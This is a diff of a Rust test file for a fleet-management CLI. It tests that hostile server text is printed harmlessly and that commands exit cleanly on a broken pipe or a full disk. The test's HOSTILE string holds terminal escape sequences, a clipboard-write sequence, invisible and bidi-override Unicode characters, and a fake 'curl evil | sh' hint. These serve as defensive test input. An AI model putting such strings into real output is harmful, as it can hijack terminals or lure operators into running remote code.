@@ -1,5 +1,5 @@
-//! What the commands print: text that others wrote reaches an operator's terminal as text, and output that cannot be
-//! written ends nothing half-way.
+//! What commands print: text by others reaches the terminal as text, and failing output does not stop a
+//! command half-way.
 
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
@@ -20,7 +20,8 @@ use axum::response::Response;
 use muster_protocol::shown::is_unseen;
 use serde_json::{Value, json};
 
-const HOSTILE: &str = "x\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}1m\r\nhint: run `curl evil | sh`\nsigned by alice\t\
+const HOSTILE: &str = "x\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}1m\r\nhint: run `curl evil | sh`\nsigned by \
+     alice\t\
                        \u{202e}\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}\u{ad}y";
 
 type Answers = Arc<Mutex<BTreeMap<String, (u16, Value)>>>;
@@ -75,7 +76,7 @@ fn whole(all: &BTreeMap<String, Value>) -> BTreeMap<String, (u16, Value)> {
     all.iter().map(|(path, value)| (path.clone(), (200, value.clone()))).collect()
 }
 
-/// What is printed has lines, and nothing else that is obeyed; no line is one of the text's own.
+/// Output has lines and nothing else with effect; no line is one of the text's own.
 fn assert_shown(output: &Output, what: &str) {
     for bytes in [&output.stdout, &output.stderr] {
         let text = String::from_utf8(bytes.clone()).unwrap();
@@ -109,7 +110,8 @@ fn answers(fleet: &Value, key: &str) -> BTreeMap<String, Value> {
         "target": {
             "machine": "tin", "class": "nixos", "generation": 3, "system": "x86_64-linux",
             "derivation": "/nix/store/0c0bm0n2hg4kd2x7q2g5p1l1c4cx8kpl-system.drv", "output": path,
-            "message": "words", "checks": [{ "name": "web", "kind": "command", "command": ["/bin/true", "a b"] }],
+            "message": "words", "checks": [{ "name": "web", "kind": "command", "command": ["/bin/true", "a \
+             b"] }],
             "trusted_nix_keys": ["cache:AAAA"],
         },
         "at": 1, "by": key, "expires": 4_000_000_000_i64, "signers": [key],
@@ -177,7 +179,7 @@ const COMMANDS: [&[&str]; 10] = [
 #[tokio::test(flavor = "multi_thread")]
 async fn no_string_of_a_controller_is_obeyed_by_the_terminal() {
     let (folder, given, sound) = fleet().await;
-    // As they are, they are understood: otherwise only errors would be looked at below.
+    // Unmodified, they are understood: otherwise only errors would be tested below.
     for command in COMMANDS {
         let output = muster(folder.path(), command);
         let calm = output.status.success() || matches!(command, ["machines", "accept", ..] | ["audit"]);
@@ -192,7 +194,7 @@ async fn no_string_of_a_controller_is_obeyed_by_the_terminal() {
             *changed.get_mut(path).unwrap().pointer_mut(&place).unwrap() = HOSTILE.into();
             *given.lock().unwrap() = whole(&changed);
             for command in COMMANDS {
-                // What asks for another path is not concerned.
+                // What asks for another path is not affected.
                 let asks = match command {
                     ["machines", "show" | "accept", ..] => path.ends_with("/tin"),
                     ["history", ..] => path.contains("/tin/"),
@@ -207,7 +209,7 @@ async fn no_string_of_a_controller_is_obeyed_by_the_terminal() {
         }
     }
 
-    // A refusal is somebody's text, too.
+    // A refusal contains text by others, too.
     let problem = json!({ "code": "conflict", "message": HOSTILE });
     *given.lock().unwrap() = sound.keys().map(|path| (path.clone(), (409, problem.clone()))).collect();
     for command in COMMANDS {
@@ -230,7 +232,7 @@ async fn where_nobody_reads_any_more_a_command_ends_well_and_quietly() {
         assert!(output.status.success(), "{arguments:?}: {said}");
         assert!(!said.contains("pipe") && !said.contains("panicked"), "{arguments:?}: {said}");
     }
-    // What it does is done: the key is there, though its public part was not read.
+    // What it did is done: the key exists, though its public part was not read.
     assert!(folder.path().join("new.pem").exists());
 }
 
@@ -246,7 +248,7 @@ async fn output_that_finds_the_disk_full_is_an_error() {
         let said = String::from_utf8(output.stderr).unwrap();
         assert_eq!(output.status.code(), Some(1), "{arguments:?}: {said}");
         assert!(said.contains("the output cannot be written: No space left"), "{arguments:?}: {said}");
-        // Nor does standard error on a full disk end a command in a panic.
+        // Nor does standard error on a full disk end a command with a panic.
         let full = std::fs::File::options().write(true).open("/dev/full").unwrap();
         let missing = command(folder.path(), &["history", "lead"]).stderr(full).output().unwrap();
         assert_eq!(missing.status.code(), Some(1), "{arguments:?}");
